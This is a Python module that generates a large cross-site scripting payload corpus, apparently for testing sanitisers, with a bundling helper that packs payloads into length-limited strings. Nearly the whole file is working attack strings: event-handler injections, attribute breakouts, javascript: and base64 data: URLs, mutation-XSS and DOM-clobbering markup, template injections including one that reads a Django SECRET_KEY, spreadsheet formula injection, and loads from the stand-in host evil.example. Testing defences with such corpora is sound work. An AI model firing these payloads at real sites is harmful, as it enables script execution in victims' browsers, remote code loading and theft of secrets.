"""Texts that run where a page believes them, in the manner of the public cheat sheets; none speaks to a real host.

Each calls `hit()`, which a test puts into the page, or asks `evil.example` for something.
"""

import re
from collections import deque
from collections.abc import Iterator, Sequence
from itertools import product

SWALLOWS = re.compile(
    r"<!--|<!\[CDATA|<(?:iframe|math|noembed|noframes|noscript|option|plaintext|script|select|style|svg|template|textarea|title|xmp)\b",
    re.IGNORECASE,
)
"""How that begins which takes what follows for a text of its own."""

CALLS = ("hit()", "window['hit']()", "(0,hit)()", "setTimeout('hit()')", "Function('hit()')()", "top.hit``")

TAGS = (
    *("img src=x onerror", "svg onload", "body onload", "iframe onload", "video src=x onerror", "audio src=x onerror"),
    *("input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus", "details open ontoggle"),
    *("marquee onstart", "object data=x onerror", "embed src=x onload", "link rel=stylesheet href=x onerror"),
    *("style onload", "script src=x onerror", "div onmouseover", "a href=# onclick", "button onfocus autofocus"),
    *("image src=x onerror", "isindex type=image src=1 onerror", "video><source onerror", "svg><animate onbegin"),
    *("p onanimationstart", "dialog open onclose", "form onsubmit", "keygen autofocus onfocus", "meter onclick"),
    *("xss tabindex=1 onfocus", "picture><img src=x onerror", "track onerror", "frameset onload", "table background=x"),
)

BREAKS = (
    *("", '"', "'", ">", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>", "-->"),
    *("]]>", "</dialog>", "</svg>", "</template>", "</noscript>", "&quot;>", "%22%3E", '"/>', "`", "</a>", "\n", "\\"),
)

ATTRIBUTES = (
    *('" autofocus onfocus=hit() x="', "' autofocus onfocus=hit() x='", '" onmouseover="hit()', "' onmouseover='hit()"),
    *(
        '" onload=hit() "',
        '" style=animation-name:x onanimationstart=hit() "',
        '" src=x onerror=hit() "',
        "x onclick=hit()",
    ),
    *(
        '" accesskey=x onclick=hit() "',
        '" formaction=javascript:hit() "',
        '"><svg/onload=hit()>',
        '" tabindex=0 onblur=hit() "',
    ),
    *('" hx-on::load="hit()" x="', '" hx-get="//evil.example/" hx-trigger="load" x="', '" data-hx-on:load="hit()" x="'),
    *('" x-data x-init="hit()" x="', '" x-on:load="hit()" x="', '" @load="hit()" x="', '" :class="hit()" x="'),
)

ADDRESSES = (
    *("javascript:hit()", "JaVaScRiPt:hit()", "java\tscript:hit()", "java\nscript:hit()", "\x01javascript:hit()"),
    *(
        "javascript://%0ahit()",
        "data:text/html,<script>parent.hit()</script>",
        "vbscript:hit()",
        "jav&#x09;ascript:hit()",
    ),
    *(
        "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KCk8L3NjcmlwdD4=",
        "//evil.example/x.js",
        "/\\evil.example",
        "&#106;avascript:hit()",
    ),
)

SCRIPTS = (
    *(
        "';hit();//",
        '";hit();//',
        "\\';hit();//",
        "</script><script>hit()</script>",
        "${hit()}",
        "`${hit()}`",
        "*/hit();/*",
    ),
    *(
        "\u2028hit()//",
        "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
        "<!--<script>hit()//--></script>",
        "{{hit()}}",
    ),
    *(
        "{{constructor.constructor('hit()')()}}",
        "{% include 'x' %}{{ settings.SECRET_KEY }}",
        "{%debug%}",
        "#{hit()}",
        "<%= hit() %>",
    ),
    *(
        "__proto__",
        "constructor",
        "[object Object]",
        "=hit()",
        "+hit()",
        "@SUM(1)",
        "-hit()",
        '=HYPERLINK("//evil.example")',
    ),
)

WHOLE = (
    *("<script>hit()</script>", "<ScRiPt>hit()</sCrIpT>", "<script\t>hit()</script>", "<script/x>hit()</script>"),
    *(
        "<<script>hit()//<</script>",
        "<script>hit()",
        "<script src=//evil.example></script>",
        "<script src=data:,hit()></script>",
    ),
    *(
        "<script type=module>hit()</script>",
        "<script>eval(atob('aGl0KCk='))</script>",
        "<svg><script>hit()</script></svg>",
    ),
    *('<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',),
    *(
        '<svg></p><style><a id="</style><img src=1 onerror=hit()>">',
        '<noscript><p title="</noscript><img src=x onerror=hit()>">',
    ),
    *(
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
        "<iframe srcdoc='<script>parent.hit()</script>'>",
    ),
    *(
        "<iframe src=javascript:parent.hit()>",
        "<object data=javascript:hit()>",
        "<embed src=javascript:hit()>",
        "<base href=//evil.example/>",
    ),
    *(
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    ),
    *(
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css';</style>",
        "<style>*{background:url(//evil.example)}</style>",
    ),
    *(
        "<img src=//evil.example/x.png>",
        "<img srcset=//evil.example/x.png>",
        "<video poster=//evil.example/x.png>",
        "<a href=javascript:hit()>x</a>",
    ),
    *(
        "<svg><a xlink:href=javascript:hit()><text>x</text></a></svg>",
        "<svg><use href=data:image/svg+xml,<svg/onload=hit()>></svg>",
    ),
    *(
        "<button form=f formaction=javascript:hit()>x</button>",
        "<form action=javascript:hit()><input type=submit>",
        "<input type=image src=//evil.example/x>",
    ),
    *(
        "<template><script>hit()</script></template>",
        "<portal src=//evil.example>",
        "<applet code=x>",
        "<bgsound src=//evil.example>",
    ),
    *(
        "&lt;script&gt;hit()&lt;/script&gt;",
        "&#60;script&#62;hit()&#60;/script&#62;",
        "%3Cscript%3Ehit()%3C/script%3E",
        "\\x3cscript\\x3ehit()\\x3c/script\\x3e",
    ),
    *(
        "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
        "+ADw-script+AD4-hit()+ADw-/script+AD4-",
        "\u202e<script>hit()</script>",
        "<\u200bscript>hit()</script>",
    ),
    *(
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */"
        "oNcliCk=hit() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=hit()//>\\x3e",
    ),
    *(
        "'\"><img/src/onerror=.1|hit``>",
        "\"'--></style></script><svg onload=hit()>",
        "<x contenteditable onblur=hit()>lose focus!",
        "<d3v<svg/onload=hit()>",
    ),
    *(
        "<div hx-get=//evil.example hx-trigger=load>",
        "<div hx-on:htmx:load=hit()>",
        "<div x-data x-init=hit()>",
        "<div data-act=palette data-medium=1>",
    ),
    *(
        "<ul id=keys><li data-press=a data-act=javascript:hit()></ul>",
        "<input name=csrfmiddlewaretoken value=x>",
        "<a id=Havre><a id=Havre name=post href=//evil.example>",
    ),
    *(
        "<img id=live name=body>",
        "<form id=palette><input name=showModal>",
        "<svg><foreignObject><iframe/onload=hit()>",
        "<svg><set attributeName=onload to=hit()>",
    ),
)


def payloads() -> list[str]:
    """All of them, each once, in an order that does not change."""
    return list(dict.fromkeys(_all()))


def bundles(texts: Sequence[str], longest: int) -> list[str]:
    """The same texts, several in one of at most so many letters, none of them cut, each able to do what it could alone.

    What is an address where a text is taken for one stands first. What swallows all behind it, where it is believed,
    stands last, and there is one of each at most.
    """
    firsts = deque(text for text in texts if text in ADDRESSES)
    lasts = deque(text for text in texts if text not in ADDRESSES and SWALLOWS.search(text))
    others = deque(text for text in texts if text not in ADDRESSES and not SWALLOWS.search(text))
    made = []
    while firsts or others or lasts:
        first, last = firsts.popleft() if firsts else "", lasts.popleft() if lasts else ""
        bundle = [first] if first else []
        room = longest - len(first) - len(last) - 1
        while others and len(others[0]) < room:
            room -= len(others[0]) + 1
            bundle.append(others.popleft())
        made.append(" ".join([*bundle, last] if last else bundle))
    return made


def _all() -> Iterator[str]:
    yield from WHOLE
    yield from ATTRIBUTES
    yield from ADDRESSES
    yield from SCRIPTS
    for number, tag in enumerate(TAGS):
        yield f"<{tag}={CALLS[number % len(CALLS)]}>"
        yield f"<{tag.replace(' ', '/')}={CALLS[(number + 1) % len(CALLS)]}//"
    for (number, before), (at, tag) in product(enumerate(BREAKS), enumerate(TAGS)):
        if (number + at) % 4 == 0:
            yield f"{before}<{tag}={CALLS[(number + at) % len(CALLS)]}>"
